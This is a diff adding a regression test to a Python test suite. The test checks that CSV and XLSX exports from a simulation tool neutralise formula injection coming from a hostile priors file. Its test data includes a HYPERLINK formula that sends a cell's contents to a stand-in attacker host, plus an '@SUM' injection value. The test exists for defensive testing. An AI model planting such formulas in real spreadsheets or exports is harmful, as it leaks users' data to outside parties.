@@ -14,7 +14,7 @@ import scipy.stats as st
 
 from mcroi import runs
 from tests import compare_cases
-from tests.helpers import assert_one_line_error, cli, mcroi_subprocess
+from tests.helpers import assert_one_line_error, cli, mcroi_subprocess, reference_doc, to_toml, write_priors
 
 PCTS = "2.5,10,50,90,97.5"
 PCT_VALUES = (2.5, 10.0, 50.0, 90.0, 97.5)
@@ -236,3 +236,40 @@ def test_parse_percentiles():
         runs.parse_percentiles("5,,10")
     with pytest.raises(ValueError, match="outside"):
         runs.parse_percentiles("-1")
+
+
+def test_no_export_cell_of_a_hostile_priors_file_is_a_formula(tmp_path):
+    """Issue 18: a scenario name or source beginning with = + - @ went into export.csv as is and into
+    export.xlsx as a live formula (a HYPERLINK that leaks a cell to an outside site)."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1, "details")'
+    doc = reference_doc(
+        price={"usd_per_mtok_output": {"dist": "uniform", "min": 1.0, "max": 3.0, "source": "@SUM(1+1)"}}
+    )
+    text = "[scenario]\nname = " + json.dumps(evil) + "\n" + to_toml(doc)
+    src = write_priors(tmp_path, text, "evil.toml")
+    run = tmp_path / "run"
+    assert cli("simulate", src, "-n", 500, "-o", run, "-q").exit_code == 0
+    for fmt in ("csv", "xlsx"):
+        assert cli("export", run, "--format", fmt).exit_code == 0
+    wb = openpyxl.load_workbook(run / "export.xlsx")
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if isinstance(c.value, str):
+                    texts.append(c.value)
+    assert evil in texts and "@SUM(1+1)" in texts  # kept, as text
+    rows = list(csv.reader((run / "export.csv").read_text().splitlines()))
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")], [c for c in cells if c[:1] in ("=", "+", "@")][:3]
+    assert "'" + evil in cells
+    assert all(not c.startswith("-") or c in ("-inf",) or _is_number(c) for c in cells)
+
+
+def _is_number(c: str) -> bool:
+    try:
+        float(c)
+    except ValueError:
+        return False
+    return True
